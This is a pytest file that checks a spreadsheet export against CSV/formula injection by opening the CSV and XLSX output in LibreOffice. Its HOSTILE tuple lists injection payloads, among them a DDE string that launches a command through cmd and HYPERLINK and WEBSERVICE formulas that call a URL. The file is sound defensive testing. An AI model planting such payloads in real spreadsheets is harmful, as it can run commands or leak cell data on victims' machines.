"""Exports opened by LibreOffice itself: hostile text does nothing, numbers and times stay what they are."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from store.export import export

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(OFFICE is None, reason="no LibreOffice on this machine: spreadsheets are not opened")

HOSTILE = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    '=HYPERLINK("https://example.org/?"&A1;"click")',
    '=WEBSERVICE("https://example.org/")',
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "a\n=1+1",
    "华为, \u202eesrever",
)
ROWS = [
    {"key": f"R1-{number}", "title": text, "number": -12.5, "count": 1_234_567, "reserved_at": "2019-02-01T10:00:00"}
    for number, text in enumerate(HOSTILE)
]


def opened(path: Path, folder: Path) -> str:
    """What LibreOffice makes of a file, as its own flat XML: values with types, formulas if there are any."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [str(OFFICE), profile, "--headless", "--norestore", "--convert-to", "fods", "--outdir", str(folder)]
    if path.suffix == ".csv":
        command += ["--infilter=CSV:44,34,UTF8,1,,0,false,true,true"]  # "special numbers" too, and formulas evaluated
    subprocess.run(  # noqa: S603 - our own files
        [*command, str(path)], check=True, capture_output=True, timeout=180
    )
    return (folder / f"{path.stem}.fods").read_text("utf-8")


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_hostile_text_is_inert_and_numbers_are_intact(tmp_path: Path, form: str) -> None:
    path = tmp_path / f"out.{form}"
    export(iter([dict(row) for row in ROWS]), form, path)
    found = opened(path, tmp_path)
    table = found[found.index("<table:table ") :]
    assert "table:formula" not in table
    assert "text:a " not in table
    assert "dde" not in table.lower()
    assert len(re.findall(r'office:value="-12.5"', table)) == len(ROWS)
    assert len(re.findall(r'office:value="1234567"', table)) == len(ROWS)
    assert len(re.findall(r'office:date-value="2019-02-01T10:00:00"', table)) == len(ROWS)
    assert "华为" in table


def test_a_csv_without_our_care_would_run(tmp_path: Path) -> None:
    """The test above can fail: LibreOffice, opening as it does here, runs what is not made inert."""
    path = tmp_path / "raw.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["title"], ["=1+1"]])
    assert "table:formula" in opened(path, tmp_path)
